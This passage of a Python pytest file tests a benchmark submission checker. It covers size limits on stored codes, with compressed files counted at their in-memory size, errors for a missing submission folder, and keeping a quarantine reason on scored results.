    assert 0 < taken < len(TEXT_CASES)


def test_too_much_in_all(good, monkeypatch):
    monkeypatch.setattr(submission, "MAX_CODES_BYTES", 1_500)
    assert any("of codes, received" in problem for problem in problems(good))


def test_codes_that_are_little_on_disk_count_as_they_are_held(good, monkeypatch):
    held = []
    for file in good.rglob("seed_*.npz"):
        with np.load(file) as arrays:
            indices, codes = arrays["indices"], np.zeros((len(arrays["indices"]), 40), np.float32)
        codes[0] = 1
        np.savez_compressed(file, indices=indices, codes=codes)
        held.append(codes.nbytes)
    on_disk = sum(file.stat().st_size for file in good.rglob("seed_*.npz"))
    assert on_disk < sum(held[:2]) < sum(held)
    monkeypatch.setattr(submission, "MAX_CODES_BYTES", sum(held[:2]))
    found = submission.check(good)
    assert sum("MiB of codes, received" in str(problem) for problem in found.problems) == 1
    assert len(found.candidates) == 2


def test_a_folder_that_is_not_there(tmp_path):
    (problem,) = problems(tmp_path / "absent")
    assert "expected a submission's folder, received no such folder" in problem
    with pytest.raises(DamagedFile, match="expected a submission's folder"):
        scored_submission.score(tmp_path / "absent")


def test_a_quarantined_result_keeps_its_reason(good, tmp_path):
    (file, _) = results_tree.write(tmp_path / "results", scored_submission.score(good))
    assert results_tree.quarantine(file, "trained on the test rows").quarantine == "trained on the test rows"
    results_tree.write(tmp_path / "results", scored_submission.score(good))
    assert results_tree.read(file).quarantine == "trained on the test rows"
    assert results_tree.quarantine(file, "").quarantine == ""
